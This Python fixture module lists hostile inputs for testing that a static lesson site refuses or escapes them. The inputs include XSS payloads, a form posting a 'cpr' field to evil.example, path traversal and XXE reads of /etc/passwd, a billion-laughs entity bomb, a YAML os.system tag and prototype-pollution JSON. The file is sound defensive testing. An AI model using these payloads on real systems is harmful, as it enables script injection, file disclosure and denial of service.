"""What somebody might put into a site to run a script in it, or to get out of its folder.

Rows of the first table are refused with a place and a sentence; those of the second are shown as the
text they are. `evil()` and requests to evil.example are what must never happen.
"""

from dataclasses import dataclass
from pathlib import Path

UNIT = "courses/schools/mellemtrin/to-opslag"
LESSON, CARD, DRAWING = f"{UNIT}/lesson-1.md", f"{UNIT}/module.yml", f"{UNIT}/media/tavle.svg"
QUIZ = "quizzes/schools/mellemtrin/to-opslag.yml"
WORDS, TECHNIQUES = "facts/words.yml", "facts/techniques.yml"
HANDBOOK = "courses/handbook/index.md"
GUIDE = "courses/parents/en-guide/guide.yml"

SENTENCE = "Peg på det sted, der presser."
TITLE = "title: Opslag på Torvet"
_SPACE = "http://www.w3.org/2000/svg"
SVG = f'<svg xmlns="{_SPACE}" viewBox="0 0 8 8"'


@dataclass(frozen=True)
class Refused:
    """What is written, and the code it is refused with, on its first line or so many below.

    `old` is what it takes the place of; without it, it is a file of its own.
    """

    family: str
    path: str
    new: str | bytes
    code: str
    old: str = ""
    below: int = 0

    def write(self, root: Path) -> int:
        """Write it into a site, and return the line it begins on."""
        path = root / self.path
        if isinstance(self.new, str) and self.old:
            return replace(path, self.old, self.new)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(self.new if isinstance(self.new, bytes) else self.new.encode())
        return 1


@dataclass(frozen=True)
class Shown:
    """What is written in the place of something else, and what of it a reader sees as text."""

    family: str
    path: str
    old: str
    new: str
    seen: str

    def write(self, root: Path) -> None:
        """Write it into a site."""
        replace(root / self.path, self.old, self.new)


def replace(path: Path, old: str, new: str) -> int:
    """Replace what stands once in a text, and return the line it stood on."""
    text = path.read_text("utf-8")
    assert text.count(old) == 1, old
    path.write_text(text.replace(old, new), encoding="utf-8")
    return text[: text.index(old)].count("\n") + 1


def _shown(family: str, path: str, old: str, seen: str, before: str = "", after: str = "") -> Shown:
    return Shown(family, path, old, f"{before}{seen}{after}", seen)


def _html(new: str, code: str = "raw-html", below: int = 0) -> Refused:
    return Refused("HTML", LESSON, new, code, SENTENCE, below)


def _svg(new: str | bytes, code: str = "unsafe-svg") -> Refused:
    return Refused("SVG", DRAWING, new, code)


def _yaml(new: str, code: str, below: int = 0) -> Refused:
    return Refused("YAML", CARD, new, code, "status: draft", below)


def _path(new: str, code: str) -> Refused:
    return Refused("paths", LESSON, new, code, SENTENCE)


def _name(name: str, code: str = "file-name") -> Refused:
    return Refused("names", f"{UNIT}/media/{name}", f"{SVG}/>", code)


_DEEP = "\n".join("  " * n + "- " for n in range(1, 40))
_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))

REFUSED = (
    _html("<script>evil()</script>"),
    _html("<img src=x onerror=evil()>"),
    _html("<svg onload=evil()>"),
    _html('<iframe srcdoc="<script>parent.evil()</script>"></iframe>'),
    _html('<base href="https://evil.example/">'),
    _html('<kbd onclick="evil()">Tab</kbd>'),
    _html('<span lang="en" style="background:url(https://evil.example)">a</span>'),
    _html("<!--><script>evil()</script>-->"),
    _html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    _html('<form action="https://evil.example"><input name="cpr"></form>'),
    _html('<a id="__config" href="javascript:evil()">a</a>'),
    _html('<math><mtext></mtext><mglyph><style><img src=x onerror="evil()">'),
    _html("[a](javascript:evil())", "unsafe-link"),
    _html("[a](java&#x09;script:evil())", "unsafe-link"),
    _html("[a](JaVaScRiPt:evil())", "unsafe-link"),
    _html("[a](data:text/html,<script>evil()</script>)", "unsafe-link"),
    _html("Se [a](//evil.example)", "lost-block"),
    _html("[a](mailto:a@b.dk?bcc=alle@evil.example)", "unsafe-link"),
    _html("<javascript:evil()>", "unsafe-link"),
    _html("[a]: javascript:evil()", "link-elsewhere"),
    _html("[[contact:<script>evil()</script>]]", "bad-reference"),
    _svg(f"{SVG}><script>evil()</script></svg>"),
    _svg(f'{SVG} onload="evil()"/>'),
    _svg(f'{SVG}><a href="javascript:evil()"><path d="M0 0h8v8z"/></a></svg>'),
    _svg(f"{SVG}><foreignObject><body onload='evil()'/></foreignObject></svg>"),
    _svg(f'{SVG}><image href="https://evil.example/a.png"/></svg>'),
    _svg(f"{SVG}><style>@import url(https://evil.example/a.css)</style></svg>"),
    _svg(f"{SVG}><style>path{{fill:\\75rl(https://evil.example)}}</style><handler/></svg>"),
    _svg(f'{SVG}><set attributeName="onmouseover" to="evil()"/></svg>'),
    _svg(f'<?xml-stylesheet href="https://evil.example/a.xsl"?>{SVG}/>'),
    _svg(f'<!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}]>{SVG}><text>&l9;</text></svg>'),
    _svg(f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{SVG}><text>&a;</text></svg>'),
    _svg(f'{SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></svg>'),
    _svg(f"{SVG}><script>evil()</script></svg>".encode("utf-16"), "unusable-image"),
    _svg(f"{SVG}><script>evil()</script></svg>".encode("utf-16-le"), "unusable-image"),
    _svg(f'<?xml version="1.0" encoding="cp1252"?><a-b:svg xmlns:a-b="{_SPACE}"><a-b:path/></a-b:svg>', "unusable-image"),
    _svg(f'<?xml version="1.0" encoding="cp1252"?>{SVG}><a-b:script xmlns:a-b="{_SPACE}">evil()</a-b:script></svg>'),
    _svg(f'\ufeff<?xml version="1.0" encoding="rot13"?>{SVG}/>', "unusable-image"),
    _svg(f"{SVG}>{'<g>' * 1_500}{'</g>' * 1_500}</svg>", "unusable-image"),
    _svg(f"{SVG}>{'<g>' * 600_000}", "unusable-image"),
    _svg("<html><script>evil()</script></html>", "unsafe-svg"),
    _svg("\x89PNG\r\n", "unusable-image"),
    _yaml("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\nstatus: draft", "yaml-alias"),
    _yaml('!!python/object/apply:os.system ["touch evil"]: x\nstatus: draft', "yaml-tag"),
    _yaml(f"a:\n{_DEEP}x\nstatus: draft", "too-deep", 21),
    _yaml("__proto__: x\nstatus: draft", "unknown-key"),
    _yaml("title: Et andet\nstatus: draft", "duplicate-key"),
    _yaml("--- \nstatus: draft", "not-yaml"),
    Refused("YAML", CARD, b"title: \xff\xfe\n", "not-utf8"),
    Refused("YAML", CARD, "title: a\0b\n", "hidden-character"),
    Refused("YAML", CARD, "#" * 200_000, "too-large"),
    _path("![a](../../../../../etc/passwd)", "dead-image"),
    _path("![a](/etc/passwd)", "dead-image"),
    _path("![a](media/%2e%2e/%2e%2e/%2e%2e/mkdocs.yml)", "dead-image"),
    _path("![a](https://evil.example/a.png)", "dead-image"),
    _path("![a](../../../parents/en-guide/guide.yml)", "dead-image"),
    _path("[a](../../../../mkdocs.yml)", "dead-link"),
    _path("Se [a](file:///etc/passwd)", "lost-block"),
    _path(r"[a](..\..\..\..\mkdocs.yml)", "unsafe-link"),
    _path("!quiz ../../../etc/passwd", "bad-command"),
    _path("[[unit:../../../etc]]", "bad-reference"),
    Refused("paths", TECHNIQUES, "picture: ../../../mkdocs.yml", "bad-picture", "picture: art/greb/lokkemaden.svg"),
    _name("side.html", "file-kind"),
    _name("%2e%2e.svg"),
    _name("con.svg"),
    _name("a\u202egnp.svg"),
    _name("a\n.svg"),
    _name("<img src=x onerror=evil()>.svg"),
    _name("-rf.svg"),
    _name(f"{'a' * 100}.svg"),
    Refused("front matter", LESSON, "template: ../../evil.html\n" + TITLE, "unknown-key", TITLE),
    Refused("front matter", LESSON, "title: [a, b]", "not-text", TITLE),
    Refused("front matter", LESSON, "title: Fred\u202e og ro", "hidden-character", TITLE),
    Refused("quiz text", QUIZ, "id: 'is\" onclick=evil()'\n", "bad-id", "id: is\n"),
    Refused("quiz text", QUIZ, "html: <script>evil()</script>\n    ask: Hvad gør opslaget?", "unknown-key", "ask: Hvad gør opslaget?"),
    Refused("quiz text", QUIZ, "source: a\x7fb", "hidden-character", "source: Egen produktion. Alle opslag og navne er opdigtede."),
)  # fmt: skip


_IS = "from: Isboden (opdigtet)\n      is: manipulative"

SHOWN = (
    Shown(
        *("HTML", LESSON, SENTENCE),
        "Peg på &lt;script&gt;evil()&lt;/script&gt; og `<img src=x onerror=evil()>`.",
        "Peg på <script>evil()</script> og <img src=x onerror=evil()>.",
    ),
    _shown("HTML", LESSON, "Der er tre is tilbage.", "{{ 7 * 191 }} {% raw %} is.{: onclick=evil() }"),
    _shown("HTML", LESSON, "Lettere for eleven: læs", "(https://a.example/\"onclick=\"evil())", before="Lettere: "),
    _shown("front matter", LESSON, TITLE, "</title><script>evil()</script>", before="title: "),
    _shown(
        *("front matter", LESSON, "To opslag hænger ved siden af hinanden."),
        '"><img src=x onerror=evil()>',
        before="'",
        after="'",
    ),
    _shown("front matter", HANDBOOK, "title: ", "</title><script>evil()</script>", before="title: "),
    _shown("front matter", HANDBOOK, "Sådan skriver man.", '"><svg onload=evil()>', "'", "'"),
    _shown("settings", "mkdocs.yml", "Lille Vidsyn", "Lille </title><script>evil()</script>"),
    _shown("settings", "mkdocs.yml", "Kun til prøver", "</footer><svg onload=evil()> til prøver"),
    _shown("cards", CARD, "title: To opslag", "<base href=https://evil.example>", before="title: "),
    _shown("cards", GUIDE, "title: En guide", "En <script>evil()</script> guide", before="title: "),
    _shown("cards", GUIDE, "Spørg, hvad det var.", "<style>*{display:none}</style>"),
    _shown("facts", WORDS, "En måde at skubbe til folk med ord.", "</small><script>evil()</script>"),
    _shown("facts", TECHNIQUES, "name: Lokkemaden", 'Lokke"><img src=x onerror=evil()>', before="name: "),
    _shown("facts", "facts/contacts.yml", "hele døgnet", "<b onclick=evil()>hele</b> døgnet"),
    _shown("quiz text", QUIZ, "Hvad gør opslaget?", "Hvad gør <img src=x onerror=evil()>?"),
    _shown("quiz text", QUIZ, _IS, 'I "><svg onload=evil()>', before="from: ", after=" (opdigtet)\n      is: manipulative"),
    _shown("quiz text", QUIZ, "Det lokker med noget, der er", "</template><script>evil()</script>"),
    _shown("quiz text", QUIZ, "Der står ingen pris nogen steder.", "Der 'onclick=evil() {{ config }} da."),
    _shown("quiz text", QUIZ, "Træk vejret.", "</li></ol><iframe src=https://evil.example>."),
    _shown("quiz text", QUIZ, "Nu kan du se efter", "<a href='javascript:evil()'>Nu</a>"),
)  # fmt: skip

SEARCHED = (
    "<img src=x onerror=evil()>",
    '"><script>evil()</script>',
    "javascript:evil()",
    "((((((((((a+)+)+)+$",
    "\\",
    "%00%3Cscript%3E",
    "__proto__ constructor toString",
    "{{ 7 * 191 }} ${7 * 191}",
    "\u202e\u0000\ud7ff",
    "å" * 20_000,
)
"""What somebody types into a search, or sends another a link with."""

SAVED = (
    '{"format":1,"answers":{"to-opslag/is":{"v":1,"n":1,"ok":true,"d":"2026-11-26",'
    '"f":["<img src=x onerror=evil()>"],"a":["\\"><script>evil()</script>"]}}}',
    '{"format":1,"answers":{"<img src=x onerror=evil()>":{"v":1}}}',
    '{"__proto__":{"format":1,"evil":1},"constructor":{"prototype":{"evil":1}}}',
    "<script>evil()</script>",
    'theme-dark" onload="evil() text-larger __proto__-evil',
    "[" * 100_000,
)
"""What somebody may have left in a browser's storage, under any name that is ours."""
